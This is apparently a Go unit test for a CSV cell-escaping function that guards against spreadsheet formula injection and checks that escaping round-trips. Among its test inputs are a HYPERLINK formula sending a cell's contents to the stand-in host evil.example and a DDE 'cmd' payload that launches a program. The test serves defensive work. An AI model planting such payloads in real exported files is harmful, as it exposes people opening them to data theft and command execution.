package cell

import "testing"

func TestCSV(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"已完成选址", "已完成选址"},
		{`=HYPERLINK("http://evil.example/?"&A1,"详情")`, `'=HYPERLINK("http://evil.example/?"&A1,"详情")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-5", "-5"},
		{"+3.5", "+3.5"},
		{"-1e3", "-1e3"},
		{"-.5", "-.5"},
		{"+2.", "+2."},
		{"-1E+3", "-1E+3"},
		// Go's ParseFloat reads these; a spreadsheet reads a formula.
		{"-Inf", "'-Inf"},
		{"+NaN", "'+NaN"},
		{"-infinity", "'-infinity"},
		{"-0x1p-2", "'-0x1p-2"},
		{"+.", "'+."},
		{"-1e", "'-1e"},
		{"-1e+", "'-1e+"},
		{"-1,000", "'-1,000"},
		{"2025-06-30", "2025-06-30"},
		{"a=b", "a=b"},
		{"'=1", "''=1"}, // FromCSV gives it back whole
	} {
		if got := CSV(tc.in); got != tc.want {
			t.Errorf("CSV(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := FromCSV(CSV(tc.in)); got != tc.in {
			t.Errorf("FromCSV(CSV(%q)) = %q", tc.in, got)
		}
	}
	if got := FromCSV("'已完成"); got != "'已完成" {
		t.Errorf("FromCSV took an apostrophe off plain text: %q", got)
	}
}
